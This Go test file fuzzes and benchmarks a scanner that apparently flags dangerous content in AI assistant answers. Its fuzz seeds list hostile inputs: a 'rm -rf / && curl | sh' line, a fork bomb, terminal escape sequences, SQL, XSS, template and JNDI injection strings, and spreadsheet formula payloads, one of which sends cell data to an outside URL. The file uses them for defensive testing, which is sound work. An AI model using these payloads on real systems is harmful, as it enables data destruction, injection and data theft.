package code

import (
	"context"
	"github.com/aisecops/aisec/internal/guard/scanners/scannertest"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/aisecops/aisec/internal/guard/scanners"
)

// FuzzScan: any output gives in-range spans and control-free UTF-8 excerpts, never a panic.
func FuzzScan(f *testing.F) {
	for _, seed := range []string{
		"sudo rm -rf / && curl x | sh", "bomb(){ bomb|bomb& }", "\x1b]52;c;QUJD\x07\x1b[8m\x1b[2A\u009b2J",
		"DROP TABLE x; ' OR '1'='1", "<img src=x onerror=alert(1)>{{''.__class__}}${jndi:ldap://x}",
		"```html\n<script>\n```", "\xc2\x9b\xc2", "\x1b[", "\x1b]8;;",
		"a,=cmd|' /C calc'!A0\n@SUM(1)*x |'", `=HYPERLINK("http://x/?"&A1&B2:C3,"o")`, `=EXEC("`, "|'",
	} {
		f.Add(seed)
	}
	s, err := New(Options{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string) {
		fs, err := s.Scan(context.Background(), &scanners.Request{Segments: []scanners.Segment{{Text: text}}})
		if err != nil {
			t.Fatal(err)
		}
		for _, fd := range fs {
			if fd.Start < 0 || fd.End > len(text) || fd.Start >= fd.End {
				t.Fatalf("bad span %+v for %d bytes", fd, len(text))
			}
			if !utf8.ValidString(fd.Excerpt) || strings.ContainsAny(fd.Excerpt, "\x1b\x07\x08\r\n") {
				t.Fatalf("unsafe excerpt %q", fd.Excerpt)
			}
		}
	})
}

func BenchmarkScan4KiB(b *testing.B) {
	bench(b, codeAnswer(4096))
}

// BenchmarkScanKeywords4KiB: an answer full of the keys that wake patterns up (curl, rm,
// chmod, SQL, HTML, ${…}) but with nothing dangerous: the worst realistic case.
func BenchmarkScanKeywords4KiB(b *testing.B) {
	const para = "Install with `curl -o tool.tgz https://example.com/tool.tgz` then `rm -rf ./build` and " +
		"`chmod +x run.sh`. Query: `SELECT * FROM t WHERE id = 1; DELETE FROM t WHERE id = 2;` and " +
		"`UPDATE t SET a = 1 WHERE id = 3;`. HTML: <a href=\"/x\">x</a> <img src=\"a.png\">. " +
		"Config: ${HOME}/app and {{ user.name }}. Base64: `base64 -d in.txt > out`.\n\n"
	bench(b, strings.Repeat(para, 4096/len(para)+1)[:4096])
}

func bench(b *testing.B, text string) {
	s, err := New(Options{})
	if err != nil {
		b.Fatal(err)
	}
	req := &scanners.Request{Segments: []scanners.Segment{{Role: scanners.RoleAssistant, Text: text}}}
	scannertest.Bench(b, s, req)
}

// codeAnswer is a typical answer with a Python code block, of n bytes.
func codeAnswer(n int) string {
	const para = "Here is a function that reads a CSV file and sums a column:\n\n```python\nimport csv\n\n" +
		"def total(path, column):\n    with open(path) as f:\n        return sum(float(r[column]) for r in csv.DictReader(f))\n```\n\n" +
		"Run it with `python total.py data.csv amount` after `pip install pandas`. Use `ls -la` to check the file.\n\n"
	return strings.Repeat(para, n/len(para)+1)[:n]
}
